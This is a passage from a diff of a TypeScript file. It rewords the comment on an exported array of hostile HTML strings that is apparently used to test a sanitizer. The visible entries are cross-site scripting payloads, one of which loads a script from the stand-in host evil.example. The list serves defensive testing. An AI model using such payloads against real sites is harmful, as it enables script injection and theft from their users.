@@ -1,4 +1,4 @@
-/** Attempts to get a script past a sanitizer: published ones and our own. */
+/** HTML that tries to get a script past a sanitizer: published attacks and our own. */
 export const hostileStrings: readonly string[] = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
